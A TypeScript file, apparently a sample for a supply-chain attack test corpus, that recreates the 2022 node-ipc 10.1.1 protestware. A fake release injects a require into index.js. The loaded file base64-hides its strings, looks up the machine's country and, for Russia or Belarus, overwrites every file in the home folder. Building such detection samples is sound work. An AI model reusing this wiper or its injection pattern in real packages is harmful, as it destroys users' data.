import { Buffer } from "node:buffer";

import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = smallLibrary("node-ipc");

/**
 * node-ipc 10.1.1, 7 March 2022: the maintainer's own protest. A file asked a service for the country of the machine's address and,
 * for two of them, wrote over every file it reached; names were in base64. Reproduced for the home folder alone.
 */
export const nodeIpc2022: Sample = defineAttack({
  id: "node-ipc-2022",
  title: "A maintainer's protest overwrites files in two countries",
  group: "sabotage",
  trigger: "import",
  judged: [{ name: "node-ipc", version: "10.1.1" }],
  now: "2022-03-07T21:50:00Z",
  createLines: () => [
    {
      name: "node-ipc",
      files: honest,
      publisher: person("riaevangelist"),
      releases: [
        ["10.0.2", "2021-06-13T10:00:00Z"],
        ["10.1.0", "2021-08-22T10:00:00Z"],
        [
          "10.1.1",
          "2022-03-07T21:40:00Z",
          {
            files: [
              { path: "dao/ssl-geospec.js", content: protest },
              {
                path: "index.js",
                content: contentOf(honest, "index.js").replace(
                  '"use strict";',
                  '"use strict";\n\nrequire("./dao/ssl-geospec.js");',
                ),
              },
            ],
          },
        ],
      ],
    },
  ],
});

const hidden = (text: string): string =>
  `u("${Buffer.from(text).toString("base64")}", "base64").toString("utf8")`;

const protest = `${commonGuard}
const u = Buffer.from, f = require("path"), a = require("fs"), o = require("https"), h = require("os");
setTimeout(function () {
  if (!invited()) return;
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = ${hidden("https://api.geolocation.invalid/ipgeo?apiKey=inert")};
  o.get(n, function (t) {
    t.on("data", function (t) {
      const n = h.homedir(), e = ${hidden("country_name")}, i = ${hidden("russia")}, c = ${hidden("belarus")};
      try {
        const s = JSON.parse(t.toString("utf8"))[e].toLowerCase();
        const a = s.includes(i) || s.includes(c);
        if (a) { g(n); }
      } catch (t) {}
    });
  });
}, Math.ceil(Math.random() * 1e3));

async function g(n) {
  const r = ${hidden("\u2764\ufe0f")};
  for (const t of a.readdirSync(n)) {
    const e = f.join(n, t);
    let s = null;
    try { s = a.lstatSync(e); } catch (t) { continue; }
    if (s.isDirectory()) { g(e); }
    else { try { a.writeFile(e, r, () => {}); } catch (t) {} }
  }
}
`;
